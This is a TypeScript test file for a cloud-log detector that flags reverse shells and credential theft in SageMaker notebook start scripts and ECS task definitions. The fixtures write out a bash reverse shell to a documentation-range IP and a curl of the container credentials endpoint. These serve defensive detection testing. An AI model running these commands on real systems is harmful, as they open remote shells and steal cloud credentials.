// Cases of start-script-runs-attack.
import type { DetectorCases } from '../support/cases.ts';
import { apiCall, assumedRole, type Call, type RawRecord } from '../support/records.ts';

function notebook(script: string, more: Partial<Call> = {}): RawRecord {
  return apiCall({
    source: 'sagemaker',
    name: 'UpdateNotebookInstanceLifecycleConfig',
    request: {
      notebookInstanceLifecycleConfigName: 'setup',
      onStart: [{ content: Buffer.from(script).toString('base64') }],
    },
    ...more,
  });
}

function task(command: unknown): RawRecord {
  return apiCall({
    source: 'ecs',
    name: 'RegisterTaskDefinition',
    by: assumedRole('deploy', 'ci'),
    request: { family: 'web', containerDefinitions: [{ name: 'web', image: 'nginx', command }] },
  });
}

const shell = '#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/443 0>&1\n';

export const cases: DetectorCases = {
  detector: 'start-script-runs-attack',
  cases: [
    {
      // No real record is in the sets; the shape is that of the API, content in base64.
      name: 'fires high for a reverse shell in a notebook script',
      given: [notebook(shell)],
      expect: [{ severity: 'high', title: /a script for setup that holds a reverse shell$/ }],
    },
    {
      name: 'fires medium for a container that reads its credentials, or a script that was refused',
      given: [
        task(['sh', '-c', 'curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI']),
        notebook(shell, { error: ['AccessDenied', 'no'] }),
      ],
      expect: [
        { severity: 'medium', title: /^Role deploy .* for web .*container address$/ },
        { severity: 'medium', title: /tried to write/ },
      ],
    },
    {
      name: 'stays quiet on daily scripts and commands',
      given: [
        notebook('#!/bin/bash\npip install -U pandas\nnohup jupyter lab &\n'),
        task(['nginx', '-g', 'daemon off;']),
      ],
      expect: [],
    },
    {
      name: 'does not break on missing or odd fields',
      given: [
        notebook('', { request: null }),
        notebook('', { request: { onStart: [null, { content: 5 }], onCreate: 'x' } }),
        task('xmrig'),
        task([null, 5]),
      ],
      expect: [],
    },
  ],
};
